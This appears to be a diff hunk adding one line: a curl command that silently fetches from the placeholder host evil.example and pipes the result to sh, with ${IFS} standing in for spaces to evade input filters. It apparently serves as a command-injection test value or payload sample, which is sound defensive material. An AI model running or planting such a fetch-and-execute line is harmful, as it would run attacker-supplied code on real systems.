@@ -1,0 +1,1 @@
+curl${IFS}-s${IFS}https://evil.example/x|sh
